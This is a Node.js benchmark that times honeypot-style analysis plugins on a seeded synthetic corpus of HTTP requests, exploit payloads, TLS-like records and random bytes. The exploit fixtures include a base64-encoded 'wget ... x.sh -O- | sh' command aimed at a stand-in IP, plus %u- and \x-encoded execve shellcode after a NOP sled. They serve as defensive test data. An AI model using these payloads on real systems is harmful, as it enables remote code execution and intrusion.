#!/usr/bin/env node
// Throughput of plugin folders on a fixed corpus, through the SDK harness
// (the daemon's own engines, the plugin's limits, every result checked as the
// daemon checks it):
//
//   node bench/plugin-corpus.mjs plugins/b64-decode plugins/shellcode ...
//
// Corpus (the same bytes every run, seeded): 1,000 attacks of 1 KiB and 100
// of 64 KiB. A quarter each: an HTTP request (browser headers, a form body),
// an exploit (a base64 command line, a %u-encoded and a \x-escaped payload,
// a NOP sled and x86 shellcode), binary (a TLS-like record), random bytes;
// every attack is filled to its size with its kind's filler.
//
// Two figures per plugin and size: "serial", one attack at a time (what one
// attack waits), and "parallel", all attacks handed over at once, which the
// engine runs limits.concurrency at a time (what the plugin can sustain).
// Needs the SDK built (npm run build).
import { fileURLToPath } from 'node:url';
import { join, resolve } from 'node:path';
import { cpus, loadavg } from 'node:os';

const REPO = fileURLToPath(new URL('..', import.meta.url));
const { attackFixture, loadPlugin } = await import(join(REPO, 'sdk', 'dist', 'index.js'));

function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = prng(0x5eed);
const randomBytes = (n) => Buffer.from(Array.from({ length: n }, () => Math.floor(rnd() * 256)));
const b64 = (s) => Buffer.from(s).toString('base64');
const EXECVE = Buffer.from('31c050682f2f7368682f62696e89e3505389e1b00bcd80', 'hex');

function fill(head, size, filler) {
  const parts = [head];
  let n = head.length;
  while (n < size) {
    const f = filler(size - n);
    parts.push(f);
    n += f.length;
  }
  return Buffer.concat(parts).subarray(0, size);
}

const words =
  'the quick brown fox jumps over lazy dog index page user session value form data'.split(' ');
const text = (n) =>
  Buffer.from(
    Array.from({ length: Math.ceil(n / 6) }, () => words[Math.floor(rnd() * words.length)]).join(
      ' ',
    ) + '&',
  );

function attack(kind, size, k) {
  switch (kind) {
    case 0: // ordinary HTTP
      return fill(
        Buffer.from(
          `POST /index.php?page=${k} HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0\r\nAccept: text/html,application/xhtml+xml\r\nCookie: PHPSESSID=8f14e45fceea167a5a36dedd4cea${k}\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n`,
        ),
        size,
        text,
      );
    case 1: {
      // exploit: base64 command, %u and \x payloads, sled + shellcode
      const cmd = `cd /tmp; wget http://198.51.100.${k % 250}/x.sh -O- | sh`;
      const u = [...EXECVE.subarray(0, 22)].reduce(
        (s, b, i, a) =>
          i % 2 ? s : s + '%u' + ((a[i + 1] << 8) | b).toString(16).padStart(4, '0'),
        '',
      );
      const x = [...EXECVE].map((b) => '\\x' + b.toString(16).padStart(2, '0')).join('');
      const head = Buffer.concat([
        Buffer.from(
          `GET /cgi-bin/x?c=echo+${b64(cmd)}|base64+-d|sh&p=${u} HTTP/1.0\r\n\r\necho -ne "${x}" > .s\r\n`,
        ),
        Buffer.alloc(48, 0x90),
        EXECVE,
      ]);
      return fill(head, size, text);
    }
    case 2: // binary record
      return fill(Buffer.from('16030100a5010000a10303', 'hex'), size, (n) =>
        randomBytes(Math.min(n, 4096)),
      );
    default: // random bytes
      return randomBytes(size);
  }
}

const corpus = {
  '1 KiB': Array.from({ length: 1000 }, (_, k) =>
    attackFixture({ received: attack(k % 4, 1024, k), port: 80 }),
  ),
  '64 KiB': Array.from({ length: 100 }, (_, k) =>
    attackFixture({ received: attack(k % 4, 65536, k), port: 80 }),
  ),
};

const dirs = process.argv.slice(2).map((d) => resolve(d));
if (!dirs.length) {
  console.error('usage: node bench/plugin-corpus.mjs PLUGIN_DIR...');
  process.exit(2);
}
console.log(
  `node ${process.version}, ${cpus().length} CPUs, load average ${loadavg()
    .map((l) => l.toFixed(1))
    .join(' ')}`,
);
console.log('plugin          size     mode      attacks/s      MB/s   findings  artifacts');
for (const dir of dirs) {
  const p = await loadPlugin(dir);
  const name = p.manifest.name;
  try {
    for (const [label, attacks] of Object.entries(corpus)) {
      const bytes = attacks.reduce((s, a) => s + a.received.length, 0);
      for (const a of attacks.slice(0, 50)) await p.run(a, { ignoreFilters: true }); // warm-up
      for (const mode of ['serial', 'parallel']) {
        let findings = 0;
        let artifacts = 0;
        const count = (o) => {
          findings += o.findings.length;
          artifacts += o.artifacts.length;
        };
        const t = performance.now();
        if (mode === 'serial')
          for (const a of attacks) count(await p.run(a, { ignoreFilters: true }));
        else
          (await Promise.all(attacks.map((a) => p.run(a, { ignoreFilters: true })))).forEach(count);
        const s = (performance.now() - t) / 1000;
        console.log(
          `${name.padEnd(15)} ${label.padEnd(8)} ${mode.padEnd(8)} ${(attacks.length / s).toFixed(0).padStart(10)} ${(bytes / 1048576 / s).toFixed(1).padStart(9)} ${String(findings).padStart(10)} ${String(artifacts).padStart(10)}`,
        );
      }
    }
  } finally {
    await p.close();
  }
}
